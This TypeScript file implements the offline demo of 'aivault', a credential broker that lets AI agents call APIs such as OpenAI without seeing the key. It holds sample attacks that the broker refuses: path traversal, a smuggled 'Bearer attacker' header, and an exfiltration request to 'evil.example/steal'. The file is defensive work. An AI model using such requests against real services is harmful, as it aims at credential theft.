import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'

import {describeCapability, listCapabilities} from '../broker/credential/capability-catalog'
import {invoke} from '../broker/pipeline'
import {parseInvocation} from '../broker/request/refusals'
import {AivaultError} from '../errors'
import {packageRoot} from '../package-root'
import {catalogOf} from '../registry/vault-catalog'
import {renderCapabilityDescription} from '../render/capabilities'
import {renderCreated} from '../render/secrets'
import {initVault} from '../vault/init'
import {GLOBAL_SCOPE} from '../vault/scope'
import {createSecret} from '../vault/secrets-service'
import {Vault} from '../vault/vault'
import {demoVaultEnv, startDemoUpstream} from './demo-upstream'
import {loadRegistry} from '../plugins/runtime'

export interface DemoResult {
  invoked: {status: number; upstreamSawAuth: boolean; callerSawKey: boolean}
  refused: Array<{attempt: string; code: string}>
  /** Calls made, and the capability.invoke events they left (one each, refused or not), as the audit log counts them. */
  audited: {calls: number; events: number; answered: number; refused: number}
}

/**
 * How to run aivault from here: `aivault` when it is on PATH, else this package's bin/run.js
 * relative to the current folder (a fresh clone has no `aivault` until `npm link`).
 */
export function cliCommand(env: NodeJS.ProcessEnv = process.env, cwd = process.cwd()): {command: string; note?: string} {
  for (const dir of (env.PATH ?? '').split(path.delimiter).filter(Boolean)) {
    try {
      fs.accessSync(path.join(dir, 'aivault'), fs.constants.X_OK)
      return {command: 'aivault'}
    } catch {
      // not in this folder
    }
  }
  const relative = path.relative(cwd, path.join(packageRoot(), 'bin', 'run.js'))
  const command = relative.startsWith('..') || path.isAbsolute(relative) ? path.join(packageRoot(), 'bin', 'run.js') : `./${relative}`
  return {command, note: '"aivault" is not on your PATH: run "npm link" in the aivault folder to use that name'}
}

async function readAll(body: NodeJS.ReadableStream): Promise<string> {
  const chunks: Buffer[] = []
  for await (const chunk of body) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks).toString('utf8')
}

/**
 * `aivault demo`: a one-minute tour in a throwaway testing vault against an embedded HTTPS API
 * that answers like OpenAI. Everything runs offline and is removed at the end.
 */
export async function runDemo(log: (line: string) => void): Promise<DemoResult> {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'aivault-demo-'))
  const upstream = await startDemoUpstream()
  try {
    const env = demoVaultEnv(base, upstream)
    const vault = Vault.fromEnv(env)
    const registry = loadRegistry()
    const demoKey = `sk-demo-${Math.random().toString(36).slice(2)}${Math.random().toString(36).slice(2)}`

    log('1. A throwaway testing vault, and an offline HTTPS API that answers like api.openai.com')
    await initVault(vault, {provider: 'file', testing: true})
    log(`   vault: ${vault.paths.root} (key file kept outside it)\n`)

    log('2. Store the key once. Its name is claimed by the openai provider, so it is pinned there:')
    log('   $ aivault secrets create --name OPENAI_API_KEY --value-stdin')
    const created = await createSecret(vault, catalogOf(registry), {name: 'OPENAI_API_KEY', value: Buffer.from(demoKey), scope: GLOBAL_SCOPE, aliases: []})
    log(renderCreated(created).replace(/^/gm, '   ') + '\n')

    const listing = listCapabilities(vault, registry, {provider: 'openai'})
    log(`3. Agents now see capabilities, never the key ($ aivault capability list): ${listing.ready.length} ready, e.g.`)
    log(`   ${listing.ready.slice(0, 5).map((c) => c.id).join(', ')}, ...\n`)
    log('   $ aivault capability describe openai/chat-completions')
    log(renderCapabilityDescription(describeCapability(vault, registry, 'openai/chat-completions')).split('\n').slice(0, 7).map((l) => `   ${l}`).join('\n') + '\n')

    log('4. An agent invokes it; the broker checks the request and injects the key:')
    const question = 'What is aivault?'
    log(`   $ aivault invoke openai/chat-completions --method POST --body '{"messages":[{"role":"user","content":"${question}"}]}'`)
    const result = await invoke(
      {vault, registry, env, mode: vault.mode},
      {capability: 'openai/chat-completions', request: {method: 'POST', path: '/v1/chat/completions', headers: [{name: 'content-type', value: 'application/json'}], body: JSON.stringify({model: 'gpt-demo', messages: [{role: 'user', content: question}]})}},
      {context: {consumer: 'demo'}},
    )
    const body = await readAll(result.body)
    await result.done
    log(`   the caller got (HTTP ${result.status}, cookies and auth headers stripped): ${body}`)
    const auth = upstream.seen.at(-1)?.headers.authorization ?? ''
    const upstreamSawAuth = auth === `Bearer ${demoKey}`
    log(`   the API received: authorization: Bearer ${'*'.repeat(8)} (the real ${demoKey.length}-character key: ${upstreamSawAuth ? 'yes' : 'NO'})`)
    log(`   planned request as logged: ${result.planned.method} ${result.planned.url}\n`)

    log('5. Requests outside the capability are refused before anything is sent:')
    const refused: DemoResult['refused'] = []
    // Each attempt arrives as JSON, as an envelope does through aivaultd or `aivault serve`.
    const attempt = async (raw: unknown) => {
      const {envelope, context} = await parseInvocation(vault, {envelope: raw, context: {consumer: 'demo'}})
      return invoke({vault, registry, env, mode: vault.mode}, envelope, {context})
    }
    // [what, how, run]: the human line pads `what` into a column; JSON gets plain single-spaced text.
    const attempts: Array<[string, string, () => Promise<unknown>]> = [
      ['path traversal', '--path /v1/chat/completions/../../admin', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', path: '/v1/chat/completions/../../admin'}})],
      ['smuggled header', '-H authorization="Bearer attacker"', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', headers: [{name: 'authorization', value: 'Bearer attacker'}]}})],
      ['another host', '--request \'{"url": "https://evil.example/steal"}\'', () => attempt({capability: 'openai/chat-completions', request: {url: 'https://evil.example/steal'}})],
      ['wrong method', '--method PUT on openai/models', () => attempt({capability: 'openai/models', request: {method: 'PUT', path: '/v1/models'}})],
    ]
    const before = upstream.seen.length
    for (const [what, how, run] of attempts) {
      const label = `${what} ${how}`
      try {
        await run()
        refused.push({attempt: label, code: 'not refused'})
      } catch (error) {
        if (!(error instanceof AivaultError)) throw error
        refused.push({attempt: label, code: error.code})
        log(`   ${what.padEnd(15)} ${how}\n     -> ${error.code}: ${error.message}`)
      }
    }
    log(`   requests that reached the API: ${upstream.seen.length - before}\n`)
    log('6. Every call is in the hash-chained audit log ($ aivault audit), with no secret in it.')
    const calls = 1 + attempts.length
    await vault.audit.flush()
    const events = vault.audit.read({limit: 50, kind: 'capability.invoke'})
    // A refused call's event names its error code (SPEC §15 audit).
    const audited = {calls, events: events.length, answered: events.filter((e) => e.error === undefined).length, refused: events.filter((e) => e.error !== undefined).length}
    log(`   ${calls} calls, ${audited.events} capability.invoke events: ${audited.answered} answered, ${audited.refused} refused; "aivault audit verify" checks the chain.\n`)
    const cli = cliCommand()
    log('Done. The demo vault and its key were removed. Start for real with:')
    log(`   printf %s "$OPENAI_API_KEY" | ${cli.command} secrets create --name OPENAI_API_KEY --value-stdin`)
    if (cli.note) log(`   (${cli.note})`)
    return {invoked: {status: result.status, upstreamSawAuth, callerSawKey: body.includes(demoKey)}, refused, audited}
  } finally {
    await upstream.close()
    fs.rmSync(base, {recursive: true, force: true})
  }
}
